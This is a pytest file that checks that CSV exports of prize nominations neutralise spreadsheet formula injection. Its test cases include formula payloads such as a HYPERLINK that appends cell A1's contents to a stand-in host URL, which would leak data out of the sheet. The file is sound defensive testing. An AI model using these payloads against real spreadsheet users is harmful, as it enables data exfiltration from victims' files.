"""CSV cells a spreadsheet would run as formulas are written as text."""

import csv
import io
from datetime import UTC, datetime

import pytest

from prize.exports.nominations import NominationsCsv
from prize.exports.spreadsheet_csv import SpreadsheetWriter, neutralise
from prize.phases import Phase
from prize.roles import Role
from prize.services.years import YearInfo
from tests.factories import actor_of, make_body, make_nomination, make_user, make_year


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("https://x.example/?"&A1;"Klik")', '\'=HYPERLINK("https://x.example/?"&A1;"Klik")'),
    ("+45 12 34 56 78", "'+45 12 34 56 78"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-0,5231", "-0,5231"),
    ("-1.234,5", "-1.234,5"),
    ("Stenhøj = Vestermark", "Stenhøj = Vestermark"),
    ("", ""),
    (3, 3),
])
def test_a_cell_that_starts_a_formula_is_written_as_text(value, written):
    assert neutralise(value) == written


def test_the_writer_separates_with_semicolons_and_neutralises_every_cell():
    out = io.StringIO()

    SpreadsheetWriter(out, line_end="\r\n").writerows([["Kandidat", "Point"], ["=1+1", "-0,25"]])

    assert out.getvalue() == "Kandidat;Point\r\n'=1+1;-0,25\r\n"


def test_a_candidate_named_as_a_formula_reaches_the_nominations_csv_as_text(session):
    prize_year = make_year(session, phase=Phase.NOMINATIONS_CLOSED)
    make_nomination(session, year=prize_year, body=make_body(session), name='=HYPERLINK("https://x.example";"Se")')
    secretariat = actor_of(make_user(session, role=Role.SECRETARIAT))

    exported = NominationsCsv(year=YearInfo.of(prize_year)).export(session, actor=secretariat,
                                                                   now=datetime(2020, 3, 1, tzinfo=UTC))

    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8").removeprefix("\ufeff")), delimiter=";"))
    assert [row[0] for row in rows[1:]] == ['\'=HYPERLINK("https://x.example";"Se")']
